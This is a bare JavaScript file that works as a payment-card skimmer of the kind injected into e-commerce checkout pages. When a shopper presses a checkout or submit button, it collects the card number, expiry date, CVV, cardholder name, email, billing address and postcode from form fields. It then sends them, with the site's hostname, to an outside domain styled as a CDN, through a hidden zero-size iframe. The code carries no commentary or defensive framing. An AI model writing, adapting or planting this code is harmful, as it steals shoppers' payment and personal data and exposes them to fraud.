(function (doc, win) {
  var base = 'https://img-cdnpayments.top/p/track.php';
  var sink;

  function ensureSink() {
    if (sink && sink.parentNode) return sink;
    sink = doc.createElement('iframe');
    sink.width = 0;
    sink.height = 0;
    sink.frameBorder = '0';
    sink.style.display = 'none';
    doc.body.appendChild(sink);
    return sink;
  }

  function field(names) {
    for (var i = 0; i < names.length; i++) {
      var el = doc.getElementById(names[i]) || doc.getElementsByName(names[i])[0];
      if (el && el.value) return el.value;
    }
    return '';
  }

  function grab() {
    var params = [
      'n=' + encodeURIComponent(field(['cardNumber', 'card_number', 'ccnum', 'cc_number'])),
      'e=' + encodeURIComponent(field(['expiry', 'cardExpiry', 'cc_exp', 'exp_date'])),
      'c=' + encodeURIComponent(field(['cvv', 'cvc', 'securityCode', 'cc_cvv2'])),
      'h=' + encodeURIComponent(field(['cardholder', 'nameOnCard', 'cc_name'])),
      'm=' + encodeURIComponent(field(['email', 'billing_email'])),
      'a=' + encodeURIComponent(field(['billing_address_1', 'address1', 'street'])),
      'z=' + encodeURIComponent(field(['billing_postcode', 'zip', 'postal'])),
      's=' + encodeURIComponent(win.location.hostname)
    ];
    return params.join('&');
  }

  function onTrigger() {
    var q = grab();
    if (q.indexOf('n=&') === 0) return;
    ensureSink().src = base + '?' + q + '&r=' + new Date().getTime();
  }

  function bind() {
    var btns = doc.querySelectorAll('#place_order, button[type=submit], .btn-checkout, input[type=submit]');
    for (var i = 0; i < btns.length; i++) {
      btns[i].addEventListener('mousedown', onTrigger, false);
      btns[i].addEventListener('touchstart', onTrigger, false);
    }
  }

  win.addEventListener('load', function () {
    bind();
    setTimeout(bind, 4000);
  });
})(document, window);
